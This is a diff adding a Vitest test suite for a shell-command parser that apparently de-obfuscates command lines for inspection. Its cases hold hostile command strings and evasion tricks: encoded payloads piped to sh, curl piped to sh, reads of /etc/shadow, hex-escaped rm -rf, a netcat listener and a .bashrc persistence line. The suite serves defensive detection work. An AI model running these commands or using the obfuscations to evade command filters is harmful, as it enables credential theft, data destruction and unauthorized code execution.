@@ -1,0 +1,124 @@
+import { describe, expect, it } from 'vitest';
+import { getEngine } from './helpers/engine.js';
+
+/** [line, the argv of every command it runs (with origin when nested)] */
+const CASES: Array<[string, string[]]> = [
+  ["n''map -sV 10.0.0.1", ['nmap -sV 10.0.0.1']],
+  ['n\\map -sV host', ['nmap -sV host']],
+  ['c"u"rl http://x', ['curl http://x']],
+  ['a=nm;b=ap;$a$b -sV host', ['nmap -sV host']],
+  ['cat${IFS}/etc/passwd', ['cat /etc/passwd']],
+  ['cat$IFS$9/etc/passwd', ['cat /etc/passwd']],
+  ["$'\\x72\\x6d' -rf /tmp/x", ['rm -rf /tmp/x']],
+  ["$'\\162\\155' -rf /tmp/x", ['rm -rf /tmp/x']],
+  ['sudo -u root -- "/bin/r""m" -r -f /tmp/x', ['/bin/rm -r -f /tmp/x']],
+  ['{cat,/etc/shadow}', ['fallback:cat /etc/shadow']],
+  ['cat /etc/{passwd,shadow}', ['cat /etc/passwd /etc/shadow']],
+  ["$(printf '\\x6e\\x63') -h", ['substitution:printf \\x6e\\x63', 'nc -h']],
+  ["bash -c 'curl http://x | sh'", ["bash -c curl http://x | sh", 'shell-c:curl http://x', 'shell-c:sh']],
+  ['echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh', ['echo Y2F0IC9ldGMvc2hhZG93', 'base64 -d', 'sh', 'piped-to-shell:cat /etc/shadow']],
+  ['echo 77686f616d69 | xxd -r -p | bash', ['echo 77686f616d69', 'xxd -r -p', 'bash', 'piped-to-shell:whoami']],
+  ["echo 'imaohw' | rev | sh", ['echo imaohw', 'rev', 'sh', 'piped-to-shell:whoami']],
+  ['cat <<EOF | bash\nid\nEOF', ['cat', 'bash', 'piped-to-shell:id']],
+  ["bash <<< 'uname -a'", ['bash', 'heredoc-to-shell:uname -a']],
+  ['eval "ls -la"', ['eval ls -la', 'eval:ls -la']],
+  ["python3 -c 'import os; os.system(\"id\")'", ['python3 -c import os; os.system("id")', 'interpreter:id']],
+  ["perl -e 'system(\"whoami\")'", ['perl -e system("whoami")', 'interpreter:whoami']],
+  ["ssh host 'cat /etc/hostname'", ['ssh host cat /etc/hostname', 'remote:cat /etc/hostname']],
+  ["find . -name '*.log' -exec rm {} \\;", ['find . -name *.log -exec rm {} ;', 'exec-arg:rm {}']],
+  ['env A=1 timeout 5 nohup nice -n 5 curl x', ['curl x']],
+  ['xargs -I{} sh -c "echo {}"', ['sh -c echo {}', 'shell-c:echo {}']],
+  ['cd app && npm test 2>&1 | tail -50', ['cd app', 'npm test', 'tail -50']],
+  ['kill $(lsof -t -i:3000)', ['substitution:lsof -t -i:3000', 'kill $(lsof -t -i:3000)']],
+  ["git commit -m 'drop nmap'", ['git commit -m drop nmap']],
+  ['echo ok > x.sh; sh x.sh', ['echo ok', 'sh x.sh', 'piped-to-shell:ok']],
+  ["echo 'curl x | sh' >> ~/.bashrc", ['echo curl x | sh', 'persisted:curl x', 'persisted:sh']],
+  ['X=1 Y="two words" env', ['env']],
+  ['rm \\\n -rf /tmp/x', ['rm -rf /tmp/x']],
+];
+
+describe('CommandView', () => {
+  it.each(CASES)('%s', async (line, expected) => {
+    const engine = await getEngine();
+    const view = engine.view(line);
+    const got = view.commands.map((c) => `${c.origin === 'line' ? '' : c.origin + ':'}${c.argv.join(' ')}`);
+    expect(got).toEqual(expected);
+  });
+
+  it('links pipelines and records redirects', async () => {
+    const engine = await getEngine();
+    const v = engine.view('cat a | grep b > out.txt 2>&1');
+    expect(v.commands[1]!.pipeFrom).toBe(v.commands[0]);
+    expect(v.commands[1]!.redirects.map((r) => [r.op, r.target])).toEqual([['>', 'out.txt'], ['>&', '1']]);
+  });
+
+  it('binds a redirect after && to the last command only, as bash does', async () => {
+    const engine = await getEngine();
+    const v = engine.view('echo a && echo b >> notes.md');
+    expect(v.commands[0]!.redirects).toEqual([]);
+    expect(v.commands[1]!.redirects[0]!.target).toBe('notes.md');
+  });
+
+  it('records wrappers and privilege', async () => {
+    const engine = await getEngine();
+    const [c] = engine.view('sudo -E nohup /usr/bin/nc -lvp 4444').commands;
+    expect(c!.name).toBe('nc');
+    expect(c!.wrappers).toEqual(['sudo', 'nohup']);
+    expect(c!.elevated).toBe(true);
+  });
+
+  it('shows its work as normalization steps', async () => {
+    const engine = await getEngine();
+    const v = engine.view('a=nm;b=ap;$a$b');
+    expect(v.steps.map((s) => s.kind)).toContain('variable');
+  });
+
+  it('bounds nesting depth and says so', async () => {
+    const engine = await getEngine();
+    let line = 'ls';
+    for (let i = 0; i < 12; i++) line = `bash -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
+    const v = engine.view(line);
+    expect(v.depthExceeded).toBe(true);
+  });
+
+  it('cuts input beyond the size bound and says so', async () => {
+    const engine = await getEngine();
+    const v = engine.view('echo ' + 'a'.repeat(200 * 1024));
+    expect(v.truncated).toBe(true);
+  });
+
+  it('falls back to tokens on unparseable input', async () => {
+    const engine = await getEngine();
+    const v = engine.view('cat /etc/shadow; if then fi (((');
+    expect(v.parseErrors).toBeGreaterThan(0);
+    expect(v.commands.some((c) => c.argv.join(' ') === 'cat /etc/shadow')).toBe(true);
+  });
+});
+
+describe('plain-line fast path', () => {
+  it('agrees with the full parser on every eligible corpus line', async () => {
+    const { createShellParser } = await import('../src/engine/shell/parser.js');
+    const { loadShellGrammar } = await import('../src/runtime/grammar.js');
+    const { ViewBuilder } = await import('../src/engine/shell/view.js');
+    const { plainLine } = await import('../src/engine/shell/plain-line.js');
+    const { CORPUS_FILES, loadCorpus } = await import('./helpers/corpus.js');
+    const parse = await createShellParser(loadShellGrammar());
+    const shape = (line: string, fast: boolean) =>
+      new ViewBuilder(parse, line, {}, fast).build().commands.map((c) => ({
+        name: c.name, argv: c.argv, origin: c.origin, depth: c.depth, wrappers: c.wrappers, stdin: c.stdin,
+        redirects: c.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target}`), from: c.pipeFrom?.argv.join(' '),
+      }));
+    const lines = CORPUS_FILES.flatMap((f) => loadCorpus(f).map((r) => r.cmd));
+    const eligible = lines.filter((l) => plainLine(l) !== undefined);
+    expect(eligible.length).toBeGreaterThan(lines.length / 4);
+    for (const line of eligible) expect(shape(line, true), line).toEqual(shape(line, false));
+  });
+
+  it.each(['ls $HOME', 'echo `id`', 'a=1 b', 'if true; then x; fi', 'cat <<EOF\nx\nEOF', 'x &', '[ -f a ]', 'echo {a,b}', 'f() { x; }', 'echo a\\ b', '# c', 'ls;', 'a &&'])(
+    'leaves %s to the full parser',
+    async (line) => {
+      const { plainLine } = await import('../src/engine/shell/plain-line.js');
+      expect(plainLine(line)).toBeUndefined();
+    },
+  );
+});
